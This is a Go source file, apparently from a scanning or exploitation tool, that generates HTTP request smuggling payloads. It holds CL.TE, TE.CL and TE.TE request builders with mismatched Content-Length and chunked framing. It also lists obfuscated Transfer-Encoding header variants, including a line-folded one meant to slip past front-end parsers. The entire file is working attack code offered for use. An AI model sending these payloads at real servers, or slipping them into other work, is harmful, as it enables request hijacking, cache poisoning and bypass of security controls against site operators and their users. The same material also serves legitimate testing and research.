package payload

import "strings"

// teSpellings are the Transfer-Encoding header variants used by the CL.TE
// and TE.CL families. The last one folds the header onto a continuation
// line to slip it past front-ends that parse line by line.
var teSpellings = []string{
	"Transfer-Encoding: chunked",
	" Transfer-Encoding: chunked",
	"Transfer-Encoding : chunked",
	"Transfer-Encoding:\tchunked",
	"Transfer-Encoding\t: chunked",
	"Transfer-Encoding\r\n : chunked",
}

// teConflicts pairs a canonical chunked header with a second value one tier
// is expected to honor and the other to ignore.
var teConflicts = [][2]string{
	{"Transfer-Encoding: chunked", "Transfer-Encoding: x-custom"},
	{"Transfer-Encoding: chunked", "Transfer-Encoding: identity"},
	{"Transfer-Encoding: chunked", "Transfer-Encoding: gzip, chunked"},
	{"Transfer-Encoding: chunked", "Transfer-Encoding: chunked, identity"},
}

// CLTEPayloads declares six body bytes but sends a chunked terminator plus a
// trailing "G". A chunk-aware back-end leaves the "G" queued as the start of
// the next request.
func CLTEPayloads(path, host, method string, extra []string) []string {
	block := extraBlock(extra)
	out := make([]string, 0, len(teSpellings))
	for _, te := range teSpellings {
		var b strings.Builder
		b.WriteString(method + " " + path + " HTTP/1.1\r\n")
		b.WriteString("Host: " + host + "\r\n")
		b.WriteString("Connection: keep-alive\r\n")
		b.WriteString(block + "\n")
		b.WriteString("Content-Length: 6\r\n")
		b.WriteString(te + "\r\n")
		b.WriteString("\r\n")
		b.WriteString("0\r\n")
		b.WriteString("\r\n")
		b.WriteString("G")
		out = append(out, b.String())
	}
	return out
}

// TECLPayloads declares four body bytes but sends a complete one-byte chunk.
// A back-end honoring Content-Length stops early and reads the rest of the
// chunk stream as a new request.
func TECLPayloads(path, host, method string, extra []string) []string {
	block := extraBlock(extra)
	out := make([]string, 0, len(teSpellings))
	for _, te := range teSpellings {
		var b strings.Builder
		b.WriteString(method + " " + path + " HTTP/1.1\r\n")
		b.WriteString("Host: " + host + "\r\n")
		b.WriteString("Connection: keep-alive\r\n")
		b.WriteString(block + "\n")
		b.WriteString("Content-Length: 4\r\n")
		b.WriteString(te + "\r\n")
		b.WriteString("\r\n")
		b.WriteString(chunkedBody)
		out = append(out, b.String())
	}
	return out
}

// TETEPayloads sends two conflicting Transfer-Encoding headers with the
// TE.CL body framing.
func TETEPayloads(path, host, method string, extra []string) []string {
	block := extraBlock(extra)
	out := make([]string, 0, len(teConflicts))
	for _, pair := range teConflicts {
		var b strings.Builder
		b.WriteString(method + " " + path + " HTTP/1.1\r\n")
		b.WriteString("Host: " + host + "\r\n")
		b.WriteString(block + "\n")
		b.WriteString("Content-Length: 4\r\n")
		b.WriteString(pair[0] + "\r\n")
		b.WriteString(pair[1] + "\r\n")
		b.WriteString("\r\n")
		b.WriteString(chunkedBody)
		out = append(out, b.String())
	}
	return out
}

// chunkedBody is a single one-byte chunk followed by the terminator.
const chunkedBody = "1\r\nA\r\n0\r\n\r\n"

// extraBlock joins caller headers with CRLF. The block ends in CRLF when
// non-empty; the bare LF that follows it in every payload is deliberate.
func extraBlock(extra []string) string {
	if len(extra) == 0 {
		return ""
	}
	return strings.Join(extra, "\r\n") + "\r\n"
}
